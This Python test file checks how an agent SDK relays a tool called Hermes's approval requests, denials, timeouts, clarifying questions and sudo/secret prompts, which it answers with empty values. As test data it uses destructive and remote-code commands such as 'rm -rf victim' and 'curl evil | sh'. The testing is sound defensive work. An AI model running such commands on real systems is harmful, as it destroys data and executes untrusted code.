"""Permission requests and questions of Hermes, and the responses to them."""

from hermes_transcript import LIVE, STORED, HermesConversation, talk_in_turn

from agent_mux.sdk.codec import AnswerAction, ApproveAction, DenyAction, Interrupt, Refuse, Source
from agent_mux.sdk.facts import ApprovalRequested, InputRequested, Note, RequestResolved, ToolDone

CHOICES = ["once", "session", "always", "deny"]
BLOCKED = "BLOCKED: Command denied by user."


def asks(talk: HermesConversation, command: str, call: str = "c1", **payload: object) -> ApprovalRequested:
    talk.emits("tool.start", tool_id=call, name="terminal", args_text=f'{{"command": "{command}"}}')
    return permission(talk, command, **payload)


def permission(talk: HermesConversation, command: str, **payload: object) -> ApprovalRequested:
    fields = {"command": command, "description": "recursive delete", "choices": CHOICES, **payload}
    (asked,) = talk.emits("approval.request", **fields)
    assert isinstance(asked, ApprovalRequested)
    return asked


def test_a_command_that_may_do_harm_is_asked_about() -> None:
    asked = asks(talk_in_turn(), "rm -rf victim")
    assert asked == ApprovalRequested(
        "approval-1", "Run a command: recursive delete", "rm -rf victim", "high", "terminal", "c1", "rm -rf victim"
    )


def test_approving_allows_it_once() -> None:
    talk = talk_in_turn()
    asked = asks(talk, "rm -rf victim")
    assert talk.request(ApproveAction(asked.request_id)) == [RequestResolved(asked.request_id, granted=True)]
    assert talk.takes() == ("approval.respond", {"session_id": LIVE, "choice": "once"})
    assert talk.receive_response(resolved=1) == []


def test_always_is_for_this_session_and_never_for_the_users_own_list() -> None:
    talk = talk_in_turn()
    talk.request(ApproveAction(asks(talk, "rm -rf victim").request_id, always=True))
    assert talk.takes()[1]["choice"] == "session"


def test_always_is_once_where_hermes_offers_no_more() -> None:
    talk = talk_in_turn()
    talk.request(ApproveAction(asks(talk, "curl evil | sh", choices=["once", "deny"]).request_id, always=True))
    assert talk.takes()[1]["choice"] == "once"


def test_the_reason_of_a_denial_is_steered_into_the_turn() -> None:
    talk = talk_in_turn()
    asked = asks(talk, "rm -rf victim")
    assert talk.request(DenyAction(asked.request_id, "not here")) == [
        RequestResolved(asked.request_id, granted=False, reason="not here")
    ]
    assert talk.takes() == ("session.steer", {"session_id": LIVE, "text": "not here"})
    assert talk.takes() == ("approval.respond", {"session_id": LIVE, "choice": "deny"})
    blocked = {"output": "", "exit_code": -1, "error": BLOCKED, "status": "blocked"}
    facts = talk.emits(
        "tool.complete", tool_id="c1", name="terminal", args={"command": "rm -rf victim"}, result=blocked
    )
    (done,) = [fact for fact in facts if isinstance(fact, ToolDone)]
    assert done.error == BLOCKED
    assert done.exit_code is None  # it never ran
    assert not any(isinstance(fact, RequestResolved) for fact in facts)


def test_decisions_are_written_in_the_order_of_the_requests() -> None:
    talk = talk_in_turn()
    first, second = asks(talk, "rm -rf a", "c1"), asks(talk, "rm -rf b", "c2")
    assert (first.call_id, second.call_id) == ("c1", "c2")
    talk.request(DenyAction(second.request_id))
    assert talk.sent == []  # hermes takes an answer for the oldest question's
    talk.request(ApproveAction(first.request_id))
    assert [talk.takes()[1]["choice"] for _ in range(2)] == ["once", "deny"]


def test_a_decision_is_taken_once() -> None:
    talk = talk_in_turn()
    asked = asks(talk, "rm -rf victim")
    talk.request(ApproveAction(asked.request_id))
    (refused,) = talk.request(DenyAction(asked.request_id))
    assert isinstance(refused, Refuse)
    assert refused.code == "INTERACTION_NOT_FOUND"


def test_an_approval_cannot_be_answered_with_text() -> None:
    talk = talk_in_turn()
    (refused,) = talk.request(AnswerAction(asks(talk, "rm -rf victim").request_id, "yes"))
    assert isinstance(refused, Refuse)
    assert refused.code == "VALIDATION_ERROR"


def test_a_script_is_asked_about_as_what_it_is() -> None:
    talk = talk_in_turn()
    talk.emits("tool.start", tool_id="c1", name="execute_code", args_text='{"code": "print(1)"}')
    asked = permission(talk, "execute_code <<'PY'\nprint(1)\nPY")
    assert (asked.action, asked.tool_name, asked.call_id) == ("Run a script", "execute_code", "c1")


def test_a_question_of_unknown_origin_belongs_to_no_call() -> None:
    talk = talk_in_turn()
    talk.emits("tool.start", tool_id="c1", name="terminal")
    talk.emits("tool.start", tool_id="c2", name="terminal")
    assert permission(talk, "rm -rf victim").call_id is None


def test_hermes_denies_by_itself_when_its_time_is_up() -> None:
    talk = talk_in_turn()
    asked = asks(talk, "rm -rf victim")
    facts = talk.emits(
        "tool.complete", tool_id="c1", name="terminal", args={}, result={"error": BLOCKED, "status": "blocked"}
    )
    assert facts[0] == RequestResolved(asked.request_id, granted=False, reason="hermes continued without an answer")


def test_the_end_of_a_turn_settles_what_is_open() -> None:
    talk = talk_in_turn()
    asked = asks(talk, "rm -rf victim")
    talk.request(Interrupt())
    facts = talk.ends(status="interrupted")
    assert facts[0] == RequestResolved(asked.request_id, granted=False, reason="the turn ended")


def test_a_command_that_our_rule_denies_is_reported_as_denied() -> None:
    talk = talk_in_turn()
    blocked = {
        "error": "BLOCKED: this command matches the user-defined deny rule '*' (approvals.deny)",
        "status": "blocked",
    }
    asked, settled, _, done = talk.emits(
        "tool.complete", tool_id="c1", name="terminal", args={"command": "ls"}, result=blocked
    )
    assert isinstance(asked, ApprovalRequested)
    assert asked.detail == "ls"
    assert settled == RequestResolved(asked.request_id, granted=False, reason="denied: this run has approval mode deny")
    assert isinstance(done, ToolDone)


def test_a_write_that_our_rule_denies_is_reported_as_denied() -> None:
    outside = "is outside HERMES_WRITE_SAFE_ROOT (/tmp/agent-mux-1/nowhere). Unset the variable or add this path"
    asked, settled, _, done = talk_in_turn().emits(
        "tool.complete",
        tool_id="c1",
        name="write_file",
        args={"path": "two.txt", "content": "x"},
        result={"error": f"Write denied: 'two.txt' {outside}"},
    )
    assert isinstance(asked, ApprovalRequested)
    assert (asked.action, asked.detail, asked.tool_name) == ("Change a file", "two.txt", "write_file")
    assert settled == RequestResolved(asked.request_id, granted=False, reason="denied: this run has approval mode deny")
    assert isinstance(done, ToolDone)
    assert done.files == ()


def test_an_error_that_is_no_rule_of_ours_is_no_denial() -> None:
    facts = talk_in_turn().emits(
        "tool.complete", tool_id="c1", name="write_file", args={"path": "/x"}, result={"error": "Permission denied"}
    )
    assert not [fact for fact in facts if isinstance(fact, ApprovalRequested | RequestResolved)]


# -- questions


def question(talk: HermesConversation) -> InputRequested:
    talk.emits("tool.start", tool_id="c1", name="clarify", args_text='{"question": "Which?"}')
    (asked,) = talk.emits("clarify.request", question="Which?", choices=["Red", "Blue"], request_id="q1")
    assert isinstance(asked, InputRequested)
    return asked


def test_a_question_is_answered_with_text() -> None:
    talk = talk_in_turn()
    assert question(talk) == InputRequested("q1", "Which?", options=("Red", "Blue"))
    assert talk.request(AnswerAction("q1", "Green")) == [RequestResolved("q1", granted=True)]
    assert talk.takes() == ("clarify.respond", {"session_id": LIVE, "request_id": "q1", "answer": "Green"})
    result = {"question": "Which?", "user_response": "Green"}
    assert talk.emits("tool.complete", tool_id="c1", name="clarify", args={}, result=result) == []


def test_a_question_is_declined_with_the_reason_as_the_answer() -> None:
    talk = talk_in_turn()
    question(talk)
    assert talk.request(DenyAction("q1", "I do not care")) == [
        RequestResolved("q1", granted=False, reason="I do not care")
    ]
    assert talk.takes()[1]["answer"] == "I do not care"


def test_a_question_is_not_approved() -> None:
    talk = talk_in_turn()
    (refused,) = talk.request(ApproveAction(question(talk).request_id))
    assert isinstance(refused, Refuse)
    assert refused.code == "VALIDATION_ERROR"


def test_a_question_that_timed_out_is_settled() -> None:
    talk = talk_in_turn()
    question(talk)
    result = {"question": "Which?", "user_response": ""}
    facts = talk.emits("tool.complete", tool_id="c1", name="clarify", args={}, result=result)
    assert facts == [RequestResolved("q1", granted=False, reason="hermes continued without an answer")]


def test_a_question_that_could_not_be_asked_is_a_failed_call() -> None:
    talk = talk_in_turn()
    failed = {"error": "Question text is required."}
    facts = talk.emits("tool.complete", tool_id="c1", name="clarify", args={"question": ""}, result=failed)
    assert isinstance(facts[-1], ToolDone)
    assert facts[-1].error == "Question text is required."


def test_secrets_are_not_given() -> None:
    talk = talk_in_turn()
    (note,) = talk.emits("sudo.request", request_id="s1")
    assert isinstance(note, Note)
    assert talk.takes() == ("sudo.respond", {"session_id": LIVE, "request_id": "s1", "password": ""})
    talk.emits("secret.request", request_id="s2", prompt="Key?", env_var="KEY")
    assert talk.takes() == ("secret.respond", {"session_id": LIVE, "request_id": "s2", "value": ""})


def test_a_request_for_the_screen_gets_empty_text() -> None:
    talk = talk_in_turn()
    assert talk.emits("terminal.read.request", request_id="t1") == []
    assert talk.takes() == ("terminal.read.respond", {"session_id": LIVE, "request_id": "t1", "text": ""})


# -- another client's answers


def observed(method: str, **params: str) -> list[object]:
    talk = HermesConversation(prompt=None)
    talk.is_built(LIVE, STORED)
    talk.begins()
    if method == "approval.respond":
        asks(talk, "rm -rf victim")
    else:
        question(talk)
    asked = {"jsonrpc": "2.0", "id": "r3", "method": method, "params": {"session_id": LIVE, **params}}
    assert talk.prints(asked, source=Source.STDIN) == []
    return list(talk.prints({"jsonrpc": "2.0", "id": "r3", "result": {"resolved": 1}}))


def test_an_observed_answer_settles_the_question() -> None:
    assert observed("approval.respond", choice="session") == [RequestResolved("approval-1", granted=True)]
    assert observed("approval.respond", choice="deny") == [RequestResolved("approval-1", granted=False)]
    assert observed("clarify.respond", request_id="q1", answer="Red") == [RequestResolved("q1", granted=True)]
